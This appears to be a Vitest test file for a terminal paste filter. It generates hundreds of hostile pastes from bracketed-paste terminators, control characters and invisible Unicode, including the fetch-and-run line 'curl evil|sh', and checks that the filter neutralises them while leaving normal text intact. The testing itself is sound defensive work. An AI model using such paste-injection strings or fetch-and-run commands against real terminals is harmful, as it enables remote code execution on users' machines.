import { describe, expect, it } from 'vitest';
import { cleanPaste } from '../../renderer/connect/paste-filter.ts';

const enders = [
  '\x1b[201~',
  '\x9b201~',
  '\x1b\x1b[201~',
  '\x1b[2\x0001~',
  '\x1b',
  '\x9b',
  '\x90',
  '\x03',
  '\x04',
  '\x15',
  '\x16',
  '\x1a',
  '\x7f',
  '\x08',
  '\x00',
  '\r',
  '\n',
  '\r\n',
  '\u2028',
  '\u2029',
  '\x85',
  '\x0b',
  '\x0c',
];
const hidden = ['\u202e', '\u2066', '\u200b', '\u200f', '\ufeff', '\u{e0041}', '\ud800', '\u061c', '\u2060', ''];
const shapes = ['a%b', '%b', 'a%', 'a%b%', 'echo a%%curl evil|sh'];
const pastes = enders.flatMap((ender) =>
  hidden.flatMap((sign) => shapes.map((shape) => shape.replaceAll('%', `${ender}${sign}`))),
);

describe('What is pasted', () => {
  it(`holds nothing that a shell would obey, in ${pastes.length} hostile pastes`, () => {
    expect(pastes.length).toBeGreaterThanOrEqual(500);
    for (const paste of pastes) {
      const { text, lines } = cleanPaste(paste);
      expect(text.replace(/[\t\n]/g, ''), JSON.stringify(paste)).not.toMatch(
        /[\p{Cc}\u2028-\u202e\u2066-\u2069\u200b]/u,
      );
      expect(text.endsWith('\n'), JSON.stringify(paste)).toBe(false);
      // What is not asked about is one line: Enter stays the person's.
      if (lines.length < 2) expect(text).not.toContain('\n');
      expect(cleanPaste(text)).toEqual({ text, lines });
    }
  });

  it('would not be safe without the filter: most of these pastes hold a control', () => {
    expect(pastes.filter((paste) => /\p{Cc}/u.test(paste)).length).toBeGreaterThan(400);
  });

  it('keeps honest text as it is', () => {
    for (const text of ['ls -l', 'echo "grüße 日本語 👩‍👩‍👧"', 'a\tb', '  indented', 'שלום']) {
      expect(cleanPaste(text)).toEqual({ text, lines: [text] });
    }
    expect(cleanPaste('ls -l\n').lines).toEqual(['ls -l']);
    expect(cleanPaste('one\r\ntwo\rthree\n\n').lines).toEqual(['one', 'two', 'three']);
    expect(cleanPaste('').lines).toEqual([]);
  });
});
